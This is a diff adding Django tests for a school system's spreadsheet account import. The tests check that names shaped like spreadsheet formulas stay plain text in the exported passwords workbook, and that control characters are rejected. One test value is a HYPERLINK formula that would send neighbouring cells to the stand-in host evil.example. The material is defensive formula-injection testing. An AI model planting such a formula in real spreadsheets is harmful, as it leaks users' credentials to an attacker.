@@ -195,3 +195,99 @@ def test_another_schools_leader_cannot_import_here(demo, login, school):
     response = upload(client, school, xlsx([["Ngô An", "", "Giáo viên", "", "", ""]]))
     assert response.status_code == 403
     assert User.objects.count() == before
+
+
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?p="&C3&C4,"Bấm vào đây")',
+    "+84 Nguyễn Văn Cộng",
+    "-Trần Trừ",
+    "@Lê Gắn",
+]
+
+
+def _sheet_xml(data: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return zf.read("xl/worksheets/sheet1.xml").decode()
+
+
+def text_xlsx(rows) -> bytes:
+    """As a spreadsheet program saves what someone typed as text ('=… or a text column)."""
+    wb = Workbook()
+    ws = wb.active
+    ws.append(HEADERS)
+    for row in rows:
+        ws.append(row)
+        for cell in ws[ws.max_row]:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def test_formula_like_names_come_back_as_exact_text_in_the_passwords_workbook(leader_client, school):
+    rows = [[name, f"congthuc{i}", "Học sinh", "6A", "", ""] for i, name in enumerate(FORMULA_NAMES)]
+    response = upload(leader_client, school, text_xlsx(rows))
+    assert response.status_code == 200, response.content.decode()[-3000:]
+    # the name is kept exactly as typed: nothing prefixed, nothing dropped
+    assert User.objects.get(username="congthuc0").full_name == FORMULA_NAMES[0]
+
+    download = leader_client.post(f"/accounts/people/credentials/{response.context['token']}/")
+    assert download.status_code == 200
+    xml = _sheet_xml(download.content)
+    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
+    ws = load_workbook(io.BytesIO(download.content)).active
+    cells = {c.value: c for row in ws.iter_rows(min_row=3) for c in row if c.column == 1}
+    for name in FORMULA_NAMES:
+        cell = cells[name]  # the exact text
+        assert cell.data_type == "s"
+        assert cell.quotePrefix  # stays text even when edited in Excel / LibreOffice
+    # the passwords are text too
+    for row in ws.iter_rows(min_row=3):
+        assert row[2].data_type == "s"
+
+
+def test_template_workbook_holds_no_formula(leader_client, school):
+    response = leader_client.get(f"/accounts/people/school/{school.pk}/template.xlsx")
+    assert "<f>" not in _sheet_xml(response.content)
+    ws = load_workbook(io.BytesIO(response.content)).active
+    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row if c.value is not None)
+
+
+@pytest.mark.parametrize(
+    "cell_index, value",
+    [
+        (0, "Kiều\tNhật Vy"),
+        (0, "Kiều Nhật Vy\n=1+1"),
+        (0, "Kiều\rNhật Vy"),
+        (0, "Kiều\u200bNhật Vy"),  # zero-width space (Cf)
+        (0, "\u202eKiều Nhật Vy"),  # right-to-left override (Cf)
+        (1, "an\u200b.ngo"),  # other text cells too: the username
+        (5, "an@example.edu.vn\u00ad"),  # soft hyphen in the email
+    ],
+    ids=["tab", "line-feed", "carriage-return", "zero-width-space", "bidi-override",
+         "username", "email"],
+)
+def test_control_characters_in_a_row_are_an_error_and_nothing_is_saved(leader_client, school, cell_index, value):
+    good = ["Đinh Văn Hải", "hai.dv", "Học sinh", "6A", "", ""]
+    bad = ["Kiều Nhật Vy", "", "Học sinh", "6A", "", ""]
+    bad[cell_index] = value
+    before = User.objects.count()
+    response = upload(leader_client, school, xlsx([good, bad]))
+    assert response.status_code == 400
+    text = response.content.decode()
+    assert "Dòng 3" in text
+    assert "ký tự điều khiển" in text
+    assert "Không có gì được lưu" in text
+    assert User.objects.count() == before
+    assert not User.objects.filter(username="hai.dv").exists()
+    assert not User.objects.filter(full_name__contains="Nhật Vy").exists()
+
+
+def test_ordinary_spaces_in_a_name_are_fine():
+    from lms.accounts.validators import has_control_characters, validate_no_control_characters
+
+    assert not has_control_characters("Nguyễn  Thị Mai Anh ")
+    validate_no_control_characters("Nguyễn Thị Mai Anh")
+    with pytest.raises(Exception):
+        validate_no_control_characters("Nguyễn\u2028Anh")  # line separator
